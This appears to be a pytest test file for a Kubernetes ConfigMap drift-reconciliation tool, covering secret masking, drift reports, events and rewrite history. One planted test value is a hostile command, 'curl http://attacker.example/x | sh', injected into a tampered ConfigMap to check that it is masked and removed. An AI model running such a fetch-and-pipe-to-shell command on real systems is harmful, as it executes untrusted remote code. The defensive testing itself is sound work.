from __future__ import annotations

import hashlib
import json

import pytest
from reconcile_builders import NOW, OWNER, make_live, tamper

from airflow_k8s_reconcile.domain.common import catalogue as codes
from airflow_k8s_reconcile.domain.common.catalogue import finding
from airflow_k8s_reconcile.domain.reconcile.desired.spec import ConfigMapSpec, InputRef
from airflow_k8s_reconcile.domain.reconcile.drift.flap import Rewrite
from airflow_k8s_reconcile.domain.reconcile.masking import Masking
from airflow_k8s_reconcile.domain.reconcile.plan import plan
from airflow_k8s_reconcile.domain.reconcile.policy import Mode, Outcome, Policy
from airflow_k8s_reconcile.domain.reconcile.report import build_report, event, history, previous_uids, render

# Planted secrets: none may appear in the report JSON, its text, or Event payloads.
DESIRED_PW = "s3cr3t-desired-P@ss"
LIVE_PW = "evil-live-P@ss-9000"
INJECTED = "curl http://attacker.example/x | sh"
BINARY = b"binary-secret-bytes"
PLAIN = "plain-visible-value"
WIDGET = InputRef(
    group="ex.com",
    version="v1",
    plural="widgets",
    kind="Widget",
    namespace="ns",
    name="w",
    uid="u9",
    resource_version="998",
    generation=7,
)
SPEC = ConfigMapSpec(
    name="app",
    namespace="ns",
    data={"db_password": DESIRED_PW, "mode": PLAIN, "keep": "k"},
    binary_data={"blob": BINARY},
    inputs=(WIDGET,),
)
OTHER = ConfigMapSpec(name="quiet", namespace="ns", data={"x": "1"})


def tampered_plan(mode=Mode.ENFORCE):
    live = tamper(
        make_live(SPEC),
        "kubectl-edit",
        "2026-11-21T19:30:00Z",
        db_password=LIVE_PW,
        mode="other",
        startup=INJECTED,
    )
    live["binaryData"]["blob"] = "c3RvbGVu"
    return plan([SPEC, OTHER], [live, make_live(OTHER)], Policy(owner=OWNER, mode=mode), now=NOW)


@pytest.mark.parametrize("mode", list(Mode))
@pytest.mark.parametrize("masking", [Masking(), Masking(show_values=True)], ids=["default", "show_values"])
def test_planted_secrets_never_appear(mode, masking):
    result = tampered_plan(mode)
    report = build_report(result, masking=masking)
    texts = [json.dumps(report), render(report)]
    texts += [json.dumps(event(entry, mode=mode)) for entry in report["objects"]]
    secrets = [DESIRED_PW, LIVE_PW, BINARY.decode(), "c3RvbGVu", "stolen"]
    # show_values is an explicit opt-in for keys matching no sensitive pattern; by default nothing shows.
    secrets += [] if masking.show_values else [INJECTED, PLAIN]
    for text in texts:
        for secret in secrets:
            assert secret not in text
    assert (INJECTED in texts[0]) is masking.show_values


def test_report_shape_matches_the_cli_contract():
    report = build_report(tampered_plan())
    assert json.loads(json.dumps(report)) == report
    assert set(report) == {"objects", "findings", "rewrites", "summary"}
    app, quiet = report["objects"]
    assert {"namespace", "name", "status", "drift", "attribution"} <= set(app)
    assert (app["namespace"], app["name"], app["status"], app["written"]) == ("ns", "app", "restored", True)
    assert app["drift"]["added"] == ["startup"]
    assert app["drift"]["modified"] == ["binaryData/blob", "db_password", "mode"]
    assert app["drift"]["removed"] == []
    assert app["drift"]["hash_mismatch"] is True
    assert app["actions"] == ["remove-keys:/data/startup", "apply(force)"]
    assert {a["key"]: a["manager"] for a in app["attribution"]}["startup"] == "kubectl-edit"
    assert app["inputs"] == [WIDGET.to_dict()]
    assert app["inputs"][0]["generation"] == 7
    assert app["hashes"]["desired"] == app["hashes"]["annotation"] != app["hashes"]["live"]
    assert [f["code"] for f in app["findings"]] == [codes.RECONCILE_HASH_MISMATCH]
    assert quiet["status"] == "unchanged"
    assert quiet["drift"]["added"] == []
    summary = report["summary"]
    assert (
        summary["mode"],
        summary["objects"],
        summary["restored"],
        summary["unchanged"],
        summary["drifted"],
    ) == ("enforce", 2, 1, 1, 1)
    assert summary["in_sync"] is True
    assert report["rewrites"] == [
        {"namespace": "ns", "name": "app", "manager": "kubectl-edit", "time": "2026-11-21T19:30:00Z"}
    ]


def test_values_are_fingerprints_that_correlate_but_do_not_reveal():
    values = build_report(tampered_plan())["objects"][0]["values"]
    expected = "sha256:" + hashlib.sha256(LIVE_PW.encode()).hexdigest()[:8]
    assert values["db_password"] == {
        "live": expected,
        "desired": "sha256:" + hashlib.sha256(DESIRED_PW.encode()).hexdigest()[:8],
    }
    assert values["startup"]["desired"] is None
    shown = build_report(tampered_plan(), masking=Masking(show_values=True))["objects"][0]["values"]
    assert shown["mode"] == {"live": "other", "desired": PLAIN}  # not sensitive: shown when allowed
    assert shown["db_password"]["live"].startswith("sha256:")  # sensitive: masked even then
    assert shown["binaryData/blob"]["desired"].startswith("sha256:")  # binary: always masked
    keyed = build_report(tampered_plan(), masking=Masking(fingerprint_key=b"k"))["objects"][0]["values"]
    assert keyed["db_password"]["live"].startswith("hmac:")
    assert keyed["db_password"]["live"] != expected


@pytest.mark.parametrize(
    ("key", "sensitive"),
    [
        ("DB_PASSWORD", True),
        ("api.token", True),
        ("tls.pem", True),
        ("ssh_key", True),
        ("log_level", False),
        ("replicas", False),
    ],
)
def test_sensitive_key_patterns(key, sensitive):
    assert Masking().is_sensitive(key) is sensitive
    assert Masking(sensitive=("*level*",)).is_sensitive("LOG_LEVEL")


def test_detect_mode_is_not_in_sync_and_writes_nothing():
    report = build_report(tampered_plan(Mode.DETECT))
    assert report["summary"]["in_sync"] is False
    assert report["objects"][0]["written"] is False
    assert codes.RECONCILE_DRIFT_DETECTED in [f["code"] for f in report["objects"][0]["findings"]]


def test_hook_outcomes_override_the_plan():
    result = tampered_plan()
    failure = finding(
        codes.RECONCILE_RETRIES_EXHAUSTED, "ConfigMap ns/app changed under us 3 times in a row."
    )
    report = build_report(
        result,
        outcomes={("ns", "app"): Outcome.FAILED},
        failures={("ns", "app"): [failure]},
        uids={("ns", "app"): "uid-new"},
    )
    app = report["objects"][0]
    assert (app["status"], app["written"], app["uid"]) == ("failed", False, "uid-new")
    assert app["findings"][-1]["code"] == codes.RECONCILE_RETRIES_EXHAUSTED
    assert report["summary"]["failed"] == 1
    assert report["summary"]["in_sync"] is False


def test_text_rendering_names_keys_managers_and_actions():
    text = render(build_report(tampered_plan()))
    first, *rest = text.splitlines()
    assert first == "Reconcile (enforce): 2 ConfigMap(s), 1 restored, 1 unchanged; in sync."
    assert "restored  ns/app: added startup (by kubectl-edit, Update 2026-11-21T19:30:00Z)" in rest[0]
    assert "-> remove-keys:/data/startup, apply(force)" in rest[0]
    assert "RECONCILE_HASH_MISMATCH" in text
    assert "quiet" not in text


def test_events_corrected_and_detected():
    enforced = build_report(tampered_plan())["objects"]
    corrected = event(enforced[0], mode=Mode.ENFORCE)
    assert corrected is not None
    assert (corrected["reason"], corrected["type"]) == ("DriftCorrected", "Normal")
    assert corrected["regarding"] == {
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "namespace": "ns",
        "name": "app",
        "uid": "uid-1",
    }
    assert len(corrected["note"]) <= 1024
    assert "startup" in corrected["note"]
    assert event(enforced[1], mode=Mode.ENFORCE) is None
    detected = event(build_report(tampered_plan(Mode.DETECT))["objects"][0], mode=Mode.DETECT)
    assert detected is not None
    assert (detected["reason"], detected["type"]) == ("DriftDetected", "Warning")


def test_next_run_reads_uids_and_history_back():
    report = json.loads(
        json.dumps(build_report(tampered_plan(), history=[Rewrite("ns", "app", "x", "2026-11-21T18:00:00Z")]))
    )
    assert previous_uids(report) == {("ns", "app"): "uid-1", ("ns", "quiet"): "uid-1"}
    assert history(report) == (
        Rewrite("ns", "app", "kubectl-edit", "2026-11-21T19:30:00Z"),
        Rewrite("ns", "app", "x", "2026-11-21T18:00:00Z"),
    )
    assert history({"rewrites": [{"namespace": "ns"}, "junk"]}) == ()
